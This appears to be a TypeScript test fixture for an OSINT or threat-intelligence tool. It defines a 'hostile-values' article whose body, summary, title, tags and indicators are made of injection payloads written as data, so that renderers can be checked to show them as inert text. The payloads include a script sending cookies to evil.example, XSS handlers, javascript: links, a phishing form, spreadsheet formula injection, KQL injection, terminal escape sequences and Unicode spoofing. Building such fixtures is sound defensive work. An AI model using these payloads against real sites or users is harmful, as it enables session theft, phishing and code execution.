import type { Indicator } from "../indicator.js";
import type { Article } from "./article.js";

const body = [
  "<h2>Overview</h2>",
  "<p>The text of this article was written by somebody who hopes that it is shown as it stands.</p>",
  '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
  "<img src=x onerror=\"location='https://evil.example/'\"> <svg/onload=alert(1)>",
  "<iframe srcdoc=\"<script>parent.postMessage(document.cookie, '*')</script>\"></iframe>",
  '<a href="javascript:alert(1)">full report</a> <a href=" jAvA&#9;sCrIpT:alert(2)">appendix</a>',
  '<a href="data:text/html,<script>alert(3)</script>">download</a>',
  '<form action="https://evil.example/login"><input name="password" type="password"></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
  '<style>@import url("https://evil.example/a.css"); body { background: url(https://evil.example/b.png) }</style>',
  '<link rel="stylesheet" href="https://evil.example/c.css"><object data="https://evil.example/d"></object>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(4)&gt;">',
  '<button data-commandlinker-command="terminal:create-new" data-commandlinker-args="{}">open</button>',
  '<p onclick=alert(5) style="position:fixed;inset:0">Click <b>anywhere</b></p></body></html><!--<script>',
  "<pre><code class=\"language-kusto\">DeviceInfo | take 1 // ') | union * | where ('a' == 'a</code></pre>",
  "<p>[markdown](javascript:alert(6)) ![pixel](https://evil.example/p.png?c=1) | cell | cell |</p>",
  "<p>\u001b]0;title\u0007\u001b[2J\u001b[31mred\u001b[0m \u009b5m \u202egpj.exe\u202c zero\u200bwidth a\u2028b\u2029c</p>",
].join("\r\n");

const summary = [
  "# Injected heading",
  "",
  "[read more](javascript:alert(7)) ![x](https://evil.example/s.png) <img src=x onerror=alert(8)>",
  "| a | b |",
  "|---|---|",
  "| ``` | </textarea><script>alert(9)</script> |",
  "",
  "=cmd|'/C calc'!A0",
  "$\\href{javascript:alert(10)}{x}$ \u001b[8mhidden\u001b[0m \u202edesrever",
].join("\r\n");

const indicators: readonly Indicator[] = [
  ["hostile-values.example", "osint"],
  ['https://evil.example/"><script>alert(11)</script>', "osint"],
  ["javascript:alert(12)//", "osint", "url"],
  ['=HYPERLINK("https://evil.example/?x="&A1,"report")', "osint", "text"],
  ["' or 1 == 1 | project * // \u202e\u001b[2K", "osint", "</td><script>alert(13)</script>"],
];

/** What a page, a table, a terminal or a spreadsheet must withstand. It belongs to the host of the same name. */
export const hostileValues: Article = {
  name: "hostile-values",
  title:
    "<script>alert(14)</script><img src=x onerror=alert(15)> \u202eeltit a\u202c \u001b[31mIndicators\u001b[0m </title>",
  created: "2026-02-12T16:16:16Z",
  image: "javascript:alert(16)",
  tags: [
    "OSINT",
    "<b onmouseover=alert(17)>tag</b>",
    "=cmd|'/C calc'!A0",
    "+1+1",
    "@SUM(1+1)",
    "\u001b]52;c;ZXZpbA==\u0007",
    "[tag](javascript:alert(18))",
    "a|b\n# c",
  ],
  summary: [summary, "markdown"],
  body: [body, "html"],
  indicators,
  meaning: "nothing to hunt: whatever shows this article shows it as text",
  traps: { "hostile-values.example": "carries values that are written to break what shows them" },
};
